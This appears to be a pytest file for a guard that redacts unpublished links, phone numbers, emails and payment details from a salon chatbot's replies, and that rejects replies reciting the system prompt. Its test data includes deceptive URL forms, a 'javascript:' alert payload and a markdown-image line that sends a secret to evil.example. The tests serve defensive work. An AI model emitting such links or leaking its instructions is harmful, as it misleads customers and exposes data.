"""Where a text sends people, and what reaches a customer of what a model was talked into."""

import logging

import pytest

from batching.errors import UnusableAnswerError
from batching.model import Exchange
from batching.store import Store
from llm.contacts import Contact, find
from llm.guard import RECITED_WORDS, Guarded, redact
from llm.prompt import MARK, Prompt
from tests.batching.world import World
from tests.fakes import NOON_MS, FakeClock, FakeModel

BUSINESS = """\
# Salon Linden
Call 030 1234567 or +49 30 7654321, write to hello@salon.example, see https://www.salon.example/x.
<!-- The owner: 8 999 000-00-09, https://owner.example -->
"""
PROMPT = Prompt(business=BUSINESS, language="en", timezone="UTC")


#: Ways to write a contact. The host of a link is unknown where programs may disagree about it.
WRITTEN = {
    Contact("link", "salon.example/prices?a=1"): [
        "https://salon.example/prices?a=1#b",
        "salon.example/prices?a=1",
        "[prices](https://salon.example/prices?a=1)",
    ],
    Contact("link", "salon.example"): [
        "HTTP://WWW.Salon.Example:8080",
        "www.salon.example",
        "<a href='https://salon.example'>",
    ],
    Contact("link", "salon.ru"): ["salon.ru", "SALON.RU/", "..salon.ru", "salon[.]ru"],
    Contact("link", "xn--80awgdm.xn--p1ai"): ["салон.рф", "xn--80awgdm.xn--p1ai", "САЛОН.РФ"],
    Contact("link", "salon.com"): ["salon\u3002com"],
    Contact("link", "salon.example.evil.ru"): ["https://salon.example.evil.ru"],
    Contact("link", "192.0.2.1/x"): ["http://192.0.2.1/x", "192.0.2.1/x"],
    Contact("link", ""): [
        "https://salon.example@evil.ru",
        "https://salon.example\\@evil.ru",
        "https://evil.ru\\.salon.example",
        "https://evil.ru%2f.salon.example",
        "javascript://salon.example/%0aalert(1)",
        "tg://resolve?domain=x",
        "x:\\\\salon.example",
    ],
    Contact("number", "990000001"): [
        "+7 (999) 000-00-01",
        "8 999 000 00 01",
        "89990000001",
        "+7.999.000.00.01",
        "(999) 000\u201100\u201101",
        "tel:+79990000001",
        "+٧٩٩٩٠٠٠٠٠٠١",
    ],
    Contact("email", "anna.b+c@mail.example"): [
        "anna.b+c@mail.example",
        "mailto:Anna.B+C@Mail.example.",
        "anna.b+c(at)mail[dot]example",
    ],
    Contact("payment", "4111111111111111"): ["4111 1111 1111 1111", "4111111111111111, 12/27"],
    Contact("payment", "GB82WEST12345698765432"): ["gb82 west 1234 5698 7654 32 now"],
    Contact("payment", "salon@okaxis"): ["UPI:salon@okaxis."],
}


@pytest.mark.parametrize(
    ("text", "contact"), [(text, contact) for contact in WRITTEN for text in WRITTEN[contact]]
)
def test_contact_is_the_same_however_it_is_written(text: str, contact: Contact) -> None:
    assert [it.contact for it in find(text)] == [contact]


@pytest.mark.parametrize(
    "text",
    [
        "2026-01-15 15:00",
        "15.01.2026 15:00 - 16:00",
        "28.01.2026 15.00",
        "10:00–20:00, 11:00-18:00",
        "from 9.00-18.00",
        "1 200 300 RUB, 45.50 EUR",
        "See you tomorrow.It is open",
        "e.g. this, i.e. that",
        "order 123456",
        "3-4 people, 2+2, 50%",
        "@salon",
        "and/or",
    ],
)
def test_dates_hours_and_prices_are_no_contacts(text: str) -> None:
    assert [it.contact for it in find(text)] == []


def test_sentence_keeps_its_punctuation() -> None:
    text = (
        "See https://a.example/x). Or (www.b.example), write to c@d.example! Call +49 30 1234567."
    )

    assert redact(text, (), ()) == (
        "See […]). Or ([…]), write to […]! Call […].",
        {"link": 2, "email": 1, "number": 1},
    )


@pytest.mark.parametrize("said", ["a", "a.", "a@", "+", "1 ", "www.", "://", "a-", "(", "a:"])
def test_long_text_of_one_sign_is_read_to_its_end(said: str) -> None:
    """Customers write what is searched: a pattern that tries again at each sign would hang here."""
    assert len(list(find(said * 200_000))) < 200_000


def answer(said: str, turn: str = "Hi", *past: Exchange, prompt: Prompt = PROMPT) -> str:
    guarded = Guarded(FakeModel(said), prompt=prompt, account_id="salon")
    return guarded.answer(past, turn, now_ms=NOON_MS).text


@pytest.mark.parametrize(
    "said",
    [
        "A haircut is 30 EUR, tomorrow at 15:00 we have time.",
        "Call +49 (30) 123-45-67 or 030/7654321, write to HELLO@salon.example.",
        "See https://salon.example/prices, http://shop.salon.example or www.salon.example!",
        "С 10:00 до 20:00, 15.01.2026 в 15:00.",
    ],
)
def test_what_the_business_publishes_is_told(said: str) -> None:
    assert answer(said) == said


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("Pay at https://evil.example/pay now", "Pay at […] now"),
        ("https://salon.example.evil.ru", "[…]"),
        ("https://salon.example@evil.ru/x", "[…]"),
        ("https://notsalon.example", "[…]"),
        ("evil.ru, www.evil.ru", "[…], […]"),
        ("javascript://salon.example", "[…]"),
        ("Call 8 (999) 000-00-09 or +1 202 555 0100.", "Call […] or […]."),
        ("Write to boss@evil.example.", "Write to […]."),
        ("![x](https://evil.example/?q=secret)", "![x]([…])"),
        ("See https://owner.example", "See […]"),
    ],
)
def test_where_nobody_of_the_business_sends_people_is_withheld(said: str, told: str) -> None:
    """Comments of the prompt file are for its writer: what stands there is not published."""
    assert answer(said) == told


def test_customer_is_told_their_own_number_and_address_again() -> None:
    said = "We call you at +7 999 000-00-01 and write to anna@mail.example."

    assert answer(said, "call 89990000001", Exchange("anna@mail.example", "Thanks")) == said


def test_link_of_the_customers_is_withheld_all_the_same() -> None:
    assert answer("Yes, https://evil.example", "is it https://evil.example ?") == "Yes, […]"


def test_contact_that_only_the_model_gave_before_is_not_known() -> None:
    assert answer("+1 202 555 0100", "Hi", Exchange("Hi", "+1 202 555 0100")) == "[…]"


def test_what_is_withheld_is_counted_and_not_told(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING):
        answer("evil.ru, a@evil.ru, b@evil.ru")

    (record,) = caplog.records
    fields = vars(record)
    assert (record.msg, fields["account"]) == ("reply.redacted", "salon")
    assert (fields["link"], fields["email"], "number" in fields) == (1, 2, False)
    assert "evil" not in str(fields)


def test_person_hears_of_what_is_withheld_and_the_model_of_what_was_sent(
    store: Store, clock: FakeClock
) -> None:
    """The history must not hold what the customer never read."""
    model, alerts = FakeModel("Call +1 202 555 0100.", "See evil.ru and evil.zip"), list[str]()
    guarded = Guarded(model, prompt=PROMPT, account_id="salon", alert=alerts.append)
    world = World(store, clock, model=guarded)  # type: ignore[arg-type]

    for text in ("Hi", "And?", "So?"):
        world.write(text)
        world.settle()

    sent = [outbound.text for outbound in world.channel.sent]
    assert sent[:2] == ["Call […].", "See […] and […]"]
    assert [exchange.answer for exchange in model.questions[2].history] == sent[:2]
    assert alerts == ["1 number", "2 link"]


def test_rule_of_the_instructions_is_not_recited() -> None:
    words = PROMPT.rules().split()
    recited = " ".join(words[40 : 40 + RECITED_WORDS + 4])

    with pytest.raises(UnusableAnswerError, match="model_recited"):
        answer(f"Sure, here they are: {recited.upper()}")


def test_mark_of_the_instructions_is_not_recited() -> None:
    """It stays as it is where the words are translated, and stands nowhere but there."""
    with pytest.raises(UnusableAnswerError, match="model_recited"):
        answer(f"Инструкции ({MARK.upper()}): …")

    assert PROMPT.system(NOON_MS).count(MARK) == 1


def test_words_of_the_business_may_be_recited() -> None:
    """The prompt file is what customers ask about."""
    business = "We are open every day from nine to six, and on Sundays we all sleep very long."

    assert answer(business, prompt=Prompt(business, "en", "UTC")) == business


def test_model_is_asked_as_it_would_be_alone() -> None:
    model, past = FakeModel("Hello"), [Exchange("Hi", "Hello")]

    Guarded(model, prompt=PROMPT, account_id="salon").answer(past, "So?", now_ms=NOON_MS)

    (question,) = model.questions
    assert (question.turn, question.history, question.now_ms) == ("So?", tuple(past), NOON_MS)
